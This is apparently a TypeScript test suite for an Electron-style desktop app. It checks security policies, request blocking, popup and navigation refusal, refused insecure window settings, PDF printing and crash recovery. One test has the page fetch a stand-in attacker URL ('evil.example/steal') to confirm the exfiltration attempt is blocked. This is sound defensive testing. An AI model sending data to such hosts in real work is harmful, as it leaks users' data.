import { execFileSync } from 'node:child_process'
import { writeFile } from 'node:fs/promises'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  launchFixture,
  patiently,
  type RunningFixture,
  readSeen,
  removeFolder,
  START_MS,
  temporaryFolder,
} from './fixture-launch.ts'

let userData: string
let running: RunningFixture

beforeAll(async () => {
  userData = await temporaryFolder()
  running = await launchFixture(userData)
}, START_MS)
afterAll(async () => {
  await running.app.close()
  await removeFolder(userData)
})

describe('protocol.handle', () => {
  it('answers with the type, the body and the headers onHeadersReceived gave', async () => {
    const answer = await running.page.evaluate(async () => {
      const response = await fetch('page.css')
      const policy = response.headers.get('content-security-policy')
      return {
        status: response.status,
        type: response.headers.get('content-type'),
        policy,
        text: await response.text(),
      }
    })
    expect(answer).toEqual({
      status: 200,
      type: 'text/css',
      policy: "default-src 'self' https://*.app.localhost; connect-src *; style-src 'self'",
      text: '@page {\n  size: A4 landscape;\n  margin: 20mm;\n}\n',
    })
  })

  it('receives the method and the body of a request', async () => {
    const answer = await running.page.evaluate(async () => {
      const response = await fetch('posted', { method: 'POST', body: '报送' })
      return response.json()
    })
    expect(answer).toEqual({ method: 'POST', text: '报送' })
  })

  it('makes the page a secure context under the policy it sent', async () => {
    const { page } = running
    const violated = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective))
          const style = document.createElement('style')
          style.textContent = 'p { color: red }'
          document.head.append(style)
        }),
    )
    expect([violated, await page.locator('#place').textContent()]).toEqual(['style-src-elem', '安全上下文'])
  })
})

describe('onBeforeRequest', () => {
  it('is asked about every host it does not know, and its refusal reaches the page as blocked', async () => {
    const { app, page } = running
    const failed = page.waitForEvent('requestfailed', (request) =>
      request.url().startsWith('https://evil.example/'),
    )
    const message = await page.evaluate(() => fetch('https://evil.example/steal?a=1').catch(String))
    const failure = (await failed).failure()?.errorText
    expect([message, failure, (await readSeen(app)).blocked]).toEqual([
      'TypeError: Failed to fetch',
      expect.stringMatching(/^net::ERR_BLOCKED_BY_CLIENT/),
      ['https://evil.example/steal?a=1'],
    ])
  })

  it('is asked about requests of a worker and of another host of the program’s own scheme', async () => {
    const { app, page } = running
    await page.evaluate(async () => {
      await fetch('https://other.app.localhost/x').catch(() => null)
      const worker = new Worker('worker.js')
      await new Promise((resolve) => worker.addEventListener('message', resolve, { once: true }))
      worker.terminate()
    })
    expect((await readSeen(app)).blocked.slice(-2)).toEqual([
      'app://other/x',
      'https://evil.example/from-worker',
    ])
  })
})

describe('windows and navigation', () => {
  it('window.open gives null, and the handler is told the address', async () => {
    const { app, page } = running
    const opened = await page.evaluate(() => window.open('https://evil.example/popup'))
    await patiently(async () => (await readSeen(app)).windowOpens).toEqual(['https://evil.example/popup'])
    expect([opened, app.windows().length]).toEqual([null, 1])
  })

  it('a link with a target is asked about too, and opens nothing', async () => {
    const { app, page } = running
    await page.click('#popup')
    await patiently(async () => (await readSeen(app)).windowOpens.at(-1)).toBe('https://example.com/popup')
    await patiently(() => app.windows().length).toBe(1)
  })

  it('a refused will-navigate leaves the page where it is', async () => {
    const { app, page } = running
    await page.click('#out')
    await patiently(async () => (await readSeen(app)).navigations).toEqual(['https://example.com/leave'])
    expect(
      await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.webContents.getURL()),
    ).toBe('app://bundle/page.html')
  })

  it('a reload by the test is no navigation of the page, and did-start-navigation tells of it', async () => {
    const { app, page } = running
    await app.evaluate(({ BrowserWindow }) => {
      BrowserWindow.getAllWindows()[0]?.webContents.once('did-start-navigation', (details) => {
        Reflect.set(globalThis, 'started', [details.url, details.isSameDocument, details.isMainFrame])
      })
    })
    const before = (await readSeen(app)).navigations.length
    await page.reload()
    const started = await app.evaluate(() => Reflect.get(globalThis, 'started') as unknown)
    expect([started, (await readSeen(app)).navigations.length]).toEqual([
      ['app://bundle/page.html', false, true],
      before,
    ])
  })

  it('a download is announced to the session and can be refused', async () => {
    const { app, page } = running
    await app.evaluate(({ session }) => {
      session.defaultSession.once('will-download', (event, item) => {
        event.preventDefault()
        Reflect.set(globalThis, 'download', [item.getFilename(), item.getURL().slice(0, 5)])
      })
    })
    await page.evaluate(() => {
      const link = document.createElement('a')
      link.download = 'list.txt'
      link.href = URL.createObjectURL(new Blob(['x']))
      link.click()
    })
    await patiently(() => app.evaluate(() => Reflect.get(globalThis, 'download') as unknown)).toEqual([
      'list.txt',
      'blob:',
    ])
  })

  it('a denied permission is denied in the page, and the handler was asked', async () => {
    const states = await running.page.evaluate(async () => {
      const query = await navigator.permissions.query({ name: 'geolocation' })
      return [query.state, Notification.permission]
    })
    const { permissions } = await readSeen(running.app)
    expect([states, permissions.includes('geolocation'), permissions.includes('notifications')]).toEqual([
      ['denied', 'denied'],
      true,
      true,
    ])
  })
})

describe('the window', () => {
  it.each([
    ['sandbox', false],
    ['contextIsolation', false],
    ['nodeIntegration', true],
    ['nodeIntegrationInWorker', true],
    ['nodeIntegrationInSubFrames', true],
    ['webSecurity', false],
    ['allowRunningInsecureContent', true],
    ['webviewTag', true],
  ] as const)('is refused with %s: %s, which the stand-in does not imitate', async (name, value) => {
    const answer = await running.app.evaluate(
      ({ BrowserWindow }, webPreferences) => {
        try {
          new BrowserWindow({ show: false, webPreferences })
        } catch (error) {
          return [String(error), BrowserWindow.getAllWindows().length]
        }
        return 'opened'
      },
      { [name]: value },
    )
    expect(answer).toEqual([`Error: stand-in: webPreferences ${name}: ${value} is refused`, 1])
  })

  it('gives the page its size, keeps its place, and a refused close leaves it open', async () => {
    const { app, page } = running
    const inner = () => page.evaluate(() => [innerWidth, innerHeight])
    const before = await inner()
    const place = await app.evaluate(({ BrowserWindow }) => {
      const window = BrowserWindow.getAllWindows()[0]
      window?.setBounds({ width: 1366, height: 768 })
      window?.once('close', (event) => event.preventDefault())
      window?.close()
      return [window?.getBounds(), window?.isDestroyed(), window?.isVisible(), window?.isFocused()]
    })
    expect([before, place]).toEqual([
      [1000, 700],
      [{ x: 0, y: 0, width: 1366, height: 768 }, false, true, true],
    ])
    await patiently(inner).toEqual([1366, 768])
  })

  it('printToPDF follows @page and holds Chinese text pdftotext can read', async () => {
    const base64 = await running.app.evaluate(async ({ BrowserWindow }) => {
      const window = BrowserWindow.getAllWindows()[0]
      const bytes = await window?.webContents.printToPDF({ preferCSSPageSize: true, printBackground: true })
      return bytes?.toString('base64') ?? ''
    })
    const file = path.join(userData, 'page.pdf')
    await writeFile(file, Buffer.from(base64, 'base64'))
    const text = execFileSync('pdftotext', [file, '-'], { encoding: 'utf8' })
    const size = /Page size: +([\d.]+) x ([\d.]+)/.exec(execFileSync('pdfinfo', [file], { encoding: 'utf8' }))
    expect([text.split('\n')[0], size?.slice(1).map((points) => Math.round(Number(points)))]).toEqual([
      '岳阳市破零倍增行动',
      [842, 595],
    ])
  })

  it('dialogs are cancelled without a person, and answered by the test', async () => {
    const answers = await running.app.evaluate(async ({ dialog }) => {
      const cancelled = await dialog.showOpenDialog({ properties: ['openFile'] })
      dialog.showSaveDialog = async () => ({ canceled: false, filePath: '/tmp/表1.pdf' })
      return [cancelled, await dialog.showSaveDialog({})]
    })
    expect(answers).toEqual([
      { canceled: true, filePaths: [] },
      { canceled: false, filePath: '/tmp/表1.pdf' },
    ])
  })

  it('a crashed page is reported and can be loaded again, preload included', async () => {
    const details = await running.app.evaluate(async ({ BrowserWindow }) => {
      const contents = BrowserWindow.getAllWindows()[0]?.webContents
      if (!contents) return null
      const gone = new Promise((resolve) =>
        contents.once('render-process-gone', (_event, why) => resolve(why)),
      )
      contents.forcefullyCrashRenderer()
      const why = await gone
      await contents.loadURL('app://bundle/page.html')
      return {
        why,
        joined: await contents.executeJavaScript('fixture.joined(["a", "b"])'),
        isCrashed: contents.isCrashed(),
      }
    })
    expect(details).toEqual({
      why: { reason: 'crashed', exitCode: expect.any(Number) },
      joined: 'A-B',
      isCrashed: false,
    })
  })
})
